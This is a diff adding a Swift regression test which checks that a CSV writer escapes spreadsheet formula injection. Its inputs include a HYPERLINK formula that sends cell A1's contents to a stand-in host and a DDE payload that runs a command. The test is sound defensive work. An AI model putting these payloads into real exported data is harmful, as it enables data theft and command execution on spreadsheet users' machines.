@@ -93,3 +93,22 @@ import Testing
                 """)
     }
 }
+
+/// Finding L5 (issue 32): a source named `=HYPERLINK(…)` was written as is, and a
+/// spreadsheet ran it. Fields starting with a formula character get a leading `'`; numbers
+/// (`-5`, `+3.5`, `-1.5e+16`) stay numbers.
+@Suite struct L5FormulaInjectionTests {
+    @Test func l5_formulaFieldsAreNeutralisedNumbersAreNot() throws {
+        var bytes: [UInt8] = []
+        let output = CSVOutput { bytes.append(contentsOf: $0) }
+        try output.row([
+            #"=HYPERLINK("http://x.example/?"&A1,"click")"#, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "-5",
+            "+3.5", "-1.5e+16", "Jane’s Watch", "-", "-inf",
+        ])
+        try output.flush()
+        #expect(
+            String(decoding: bytes, as: UTF8.self)
+                == #""'=HYPERLINK(""http://x.example/?""&A1,""click"")",'+cmd|' /C calc'!A0,'-2+3,'@SUM(A1),'\#tx,"'\#rx",-5,+3.5,-1.5e+16,Jane’s Watch,'-,'-inf"#
+                + "\n")
+    }
+}
